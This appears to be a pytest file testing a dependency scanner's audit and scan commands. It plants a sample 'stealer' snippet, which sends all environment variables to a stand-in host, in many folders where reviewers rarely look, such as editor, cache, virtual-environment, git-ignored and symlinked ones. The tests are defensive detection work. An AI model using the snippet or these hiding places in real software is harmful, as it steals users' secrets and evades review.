"""One stealer, put where readers do not look: whatever folder it lies in, no audit is green."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from scanner.cli import main
from tests.support.builders import sha256, wheel
from tests.support.index_server import Index

pytestmark = pytest.mark.usefixtures("seed_is_unpacked")

STEALER = """\
import os, urllib.request
urllib.request.urlopen("https://collect.invalid/", data=repr(dict(os.environ)).encode())
"""
Place = Callable[[Path], Path]


def git(root: Path, *arguments: str) -> None:
    subprocess.run(["git", "-C", str(root), *arguments], check=True, stdout=subprocess.DEVNULL)


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def fake_environment(root: Path) -> Path:
    """A marker and no more; the name is one that people use."""
    write(root / "venv/pyvenv.cfg", "home = /usr/bin\n")
    return root / "venv/steal.py"


def spoken_environment(root: Path) -> Path:
    """All that a real environment has, and a project that takes from it."""
    write(root / "env/pyvenv.cfg", "home = /usr/bin\n")
    write(root / "env/bin/python", "")
    write(root / "app.py", 'import sys\nsys.path.insert(0, "env/lib/python3.12/site-packages")\nimport steal\n')
    return root / "env/lib/python3.12/site-packages/steal.py"


def beside_an_environment(root: Path) -> Path:
    write(root / "env/pyvenv.cfg", "home = /usr/bin\n")
    write(root / "env/bin/python", "")
    write(root / "env/lib/python3.12/site-packages/six.py", "")
    return root / "env/helpers/steal.py"


def ignored_without_repository(root: Path) -> Path:
    write(root / "part/.gitignore", "*\n")
    return root / "part/steal.py"


def ignored_and_tracked(root: Path) -> Path:
    write(root / "part/.gitignore", "*\n")
    write(root / "part/data.txt", "")
    git(root, "init", "--quiet")
    git(root, "add", "--force", ".")
    return root / "part/steal.py"


def ignored_and_untracked(root: Path) -> Path:
    git(root, "init", "--quiet")
    git(root, "add", ".")
    write(root / "part/.gitignore", "*\n")
    return root / "part/steal.py"


def in_a_reviewers_repository(root: Path) -> Path:
    """The vendor was unpacked into a folder that the reviewer's own repository ignores."""
    git(root.parent, "init", "--quiet")
    write(root.parent / ".gitignore", "vendor/\npart/\n")
    git(root.parent, "add", ".gitignore")
    return root / "part/steal.py"


def in_a_worktree(root: Path) -> Path:
    """``.git`` is a file that leads elsewhere; who ignores what there has no say."""
    main_tree = root.parent / "main"
    main_tree.mkdir()
    git(main_tree, "init", "--quiet")
    identity = ["-c", "user.name=a", "-c", "user.email=a@b.invalid"]
    git(main_tree, *identity, "commit", "--quiet", "--allow-empty", "-m", "first")
    git(main_tree, "worktree", "add", "--quiet", "--detach", str(root.parent / "linked"))
    (root.parent / "linked/.git").rename(root / ".git")
    write(root / ".gitignore", "/part/\n")
    return root / "part/steal.py"


def through_a_link(root: Path) -> Path:
    """Below ``tests`` nothing runs; the link beside it is the package."""
    (root / "pkg").symlink_to("tests/parts")
    return root / "tests/parts/__init__.py"


PLACES: dict[str, Place] = {
    **{
        name: lambda root, name=name: root / name / "steal.py"  # type: ignore[misc]
        for name in (
            ".idea", ".vscode", "__pycache__", "node_modules", "site-packages", ".tox", ".eggs", ".cache",
            ".mypy_cache", ".git", ".hg", "assay-report",
        )
    },
    **{
        one.__name__: one
        for one in (
            fake_environment, spoken_environment, beside_an_environment, ignored_without_repository,
            ignored_and_tracked, ignored_and_untracked, in_a_reviewers_repository, in_a_worktree, through_a_link,
        )
    },
}  # fmt: skip


@pytest.fixture
def vendor(tmp_path: Path, index: Index) -> Path:
    told = {"License-Expression": "MIT", "Project-URL": "Source, https://github.com/example/first"}
    first = wheel("first", **told)
    index.add("first", first)
    root = tmp_path / "vendor"
    write(root / "requirements.txt", f"first==1.0 --hash=sha256:{sha256(first[1])}\n")
    write(root / "app.py", "import first\n")
    write(tmp_path / "policy.toml", "[advisories]\nmax-age-days = 36500\n")
    return root


def audited(root: Path) -> int:
    policy, output = root.parent / "policy.toml", root.parent / "out"
    return main(["audit", str(root), "--quiet", "--policy", str(policy), "--output", str(output)])


@pytest.mark.parametrize("place", PLACES)
def test_a_stealer_is_found_wherever_it_lies_and_the_place_alone_is_green(vendor: Path, place: str) -> None:
    path = PLACES[place](vendor)
    assert audited(vendor) == 0
    write(path, STEALER)
    if place == "ignored_and_tracked":
        git(vendor, "add", "--force", ".")
    assert audited(vendor) == 1
    assert main(["scan", str(vendor), "--format", "json"]) == 1


# Listed: what version control's folder states, and what git ignores here. What a link leads to is read where it lies.
LISTED = {".git", ".hg", "ignored_and_untracked", "through_a_link"}


@pytest.mark.parametrize("place", sorted(PLACES.keys() - LISTED))
def test_a_dependency_is_not_lost_wherever_it_is_stated(vendor: Path, place: str) -> None:
    path = PLACES[place](vendor).with_name("requirements.txt")
    write(path, "hidden==1.0\n")
    if place == "ignored_and_tracked":
        git(vendor, "add", "--force", ".")
    assert audited(vendor) == 3  # the index has no project of that name
